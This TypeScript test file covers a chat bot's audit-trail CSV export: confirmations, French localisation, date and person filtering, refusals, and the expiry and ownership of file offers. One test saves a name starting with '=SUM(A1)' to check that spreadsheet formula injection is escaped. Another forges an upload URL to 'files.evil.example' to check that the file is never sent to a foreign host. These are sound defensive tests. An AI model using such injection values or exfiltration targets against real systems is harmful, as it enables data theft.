import { inputsOf, openOffice, textOf, type Office } from '../support/office';

let office: Office;
beforeEach(async () => {
  office = await openOffice();
});
afterEach(() => office.close());

const lastMessage = (objectId: string) => office.connector.messagesIn(`a:${objectId}`).at(-1)!;

describe('the audit trail as a file', () => {
  it('is agreed to, offered, and stored where its reader allows it', async () => {
    const claire = office.person('Claire Moreau');
    const sofia = office.person('Sofia Lindqvist');
    await sofia.presses('confirm', await sofia.says('block Omar Benali'));

    const proposed = await claire.says('export the audit trail');
    expect(proposed.metadata).toEqual({ operation: 'audit.export', state: 'proposed' });
    expect(textOf(proposed)).toContain('The file holds personal data');
    const done = await claire.presses('confirm', proposed);
    expect(done.metadata.state).toBe('done');
    const { name, text } = await claire.takesFile();

    expect(name).toMatch(/^audit-\d+\.csv$/);
    expect(text.startsWith('\uFEFF"Number","Time (UTC)","Operation"')).toBe(true);
    expect(text).toContain('"users.block","done","Sofia Lindqvist"');
    expect(text).toContain('"Omar Benali"');
    // What came after the asking, the export itself among it, is not in the file but in the trail.
    expect(text).not.toContain('audit.export');
    expect(textOf(await claire.says('show the audit trail'))).toContain('Audit export');
  });

  it('speaks French, with the separator of French spreadsheets', async () => {
    const claire = office.person('Claire Moreau', 'fr-FR');
    const sofia = office.person('Sofia Lindqvist', 'fr-FR');
    await sofia.presses('confirm', await sofia.says('bloque Omar Benali'));

    await claire.presses('confirm', await claire.says('exporte le journal d’audit'));
    const { text } = await claire.takesFile();

    expect(text).toContain('"Numéro";"Heure (UTC)";"Opération"');
    expect(text).toContain('"Sofia Lindqvist"');
  });

  it('keeps to the person and the days that were asked for', async () => {
    const claire = office.person('Claire Moreau');
    for (const name of ['Sofia Lindqvist', 'Alex Wilber']) {
      const admin = office.person(name);
      await admin.presses('confirm', await admin.says('block Omar Benali'));
      await admin.presses('confirm', await admin.says('unblock Omar Benali'));
    }

    await claire.presses('confirm', await claire.says('export the audit trail of Sofia Lindqvist since yesterday'));
    const { name, text } = await claire.takesFile();

    expect(name).toContain('2026-11-22');
    expect(text).toContain('"Sofia Lindqvist"');
    expect(text).not.toContain('"Alex Wilber"');
  });

  it.each([
    ['en-US', 'what did Sofia do?', 'Export the audit trail to a file?'],
    ['fr-FR', 'qu’a fait Sofia ?', 'Exporter le journal d’audit dans un fichier\u202f?'],
  ])('%s: holds what was shown, by the button below it', async (locale, asks, question) => {
    const sofia = office.person('Sofia Lindqvist');
    await sofia.presses('confirm', await sofia.says('block omar.benali@contoso-partner.example'));
    const claire = office.person('Claire Moreau', locale);

    const shown = await claire.says(asks);
    const proposed = await claire.presses('choose:1', shown);
    expect(textOf(proposed)).toContain(question);
    expect(textOf(proposed)).toContain('Sofia Lindqvist');

    expect((await claire.presses('open', shown)).metadata.operation).toBe('audit.verify');
  });

  it('can’t run as a formula in a spreadsheet', async () => {
    const claire = office.person('Claire Moreau');
    const form = await claire.says('edit Omar Benali');
    await claire.presses('confirm', await claire.presses('save', form, { ...inputsOf(form), name: '=SUM(A1) Omar' }));
    await claire.presses('confirm', await claire.says('block omar.benali@contoso-partner.example'));
    await claire.presses('confirm', await claire.says('export the audit trail'));

    const { text } = await claire.takesFile();

    expect(text).toContain(`"'=SUM(A1) Omar"`);
    expect(text).not.toContain('"=SUM');
  });

  it('of nothing says so', async () => {
    const nothing = await office.person('Claire Moreau').says('export the audit trail');

    expect(textOf(nothing)).toContain('There is nothing to export.');
  });

  it.each(['Paul Lefebvre', 'Sofia Lindqvist', 'Nadia Haddad', 'Elena Rossi'])('is refused to %s', async (name) => {
    const refused = await office.person(name).says('export the audit trail');

    expect(refused.metadata.state).toBe('refused');
  });
});

describe('the offer of a file', () => {
  const offer = async () => {
    const claire = office.person('Claire Moreau');
    await claire.presses('confirm', await claire.says('block Omar Benali'));
    await claire.presses('cancel', await claire.says('reset the password of Marie Dupont'));
    const sofia = office.person('Sofia Lindqvist');
    await sofia.presses('confirm', await sofia.says('block Marie Dupont'));
    await claire.presses('confirm', await claire.says('export the audit trail'));
    return { claire, offered: lastMessage(claire.objectId) };
  };

  it('goes away when it is declined, and nothing is stored', async () => {
    const { claire, offered } = await offer();

    await claire.answersOffer(offered, 'decline');

    expect(office.connector.messagesIn(offered.conversationId)).not.toContain(offered);
    expect(office.connector.drive.size).toBe(0);
  });

  it('is nobody else’s, whoever has its token', async () => {
    const { offered } = await offer();
    const david = office.person('David Okafor');

    await david.answersOffer({ ...offered, id: 'another' }, 'accept');

    expect(office.connector.drive.size).toBe(0);
    expect(textOf(await david.sees())).toContain('This button was made for somebody else.');
  });

  it('ends after a day, and with the right', async () => {
    const { claire, offered } = await offer();
    await office.wait(24 * 60 + 1);

    await claire.answersOffer(offered, 'accept');

    expect(office.connector.drive.size).toBe(0);
    expect(textOf(await claire.sees())).not.toContain('stored');
  });

  it('is never put to a foreign host', async () => {
    const { claire, offered } = await offer();
    const { acceptContext } = offered.attachment.content as { acceptContext: object };
    const url = 'https://files.evil.example/upload';

    await claire.answersOffer(offered, 'accept', {
      value: {
        type: 'fileUpload',
        action: 'accept',
        context: acceptContext,
        uploadInfo: { uploadUrl: url, contentUrl: url, name: 'audit.csv', uniqueId: 'x', fileType: 'csv' },
      },
    });

    expect(textOf(await claire.sees())).toContain('I couldn’t reach the file.');
  });
});

describe('a file that is dropped into the chat', () => {
  it('for nothing I know is told so', async () => {
    const card = await office.person('Paul Lefebvre').drops('holiday.jpg', 'not really a picture');

    expect(card.metadata.state).not.toBe('done');
    expect(textOf(card)).toContain('holiday.jpg');
  });
});
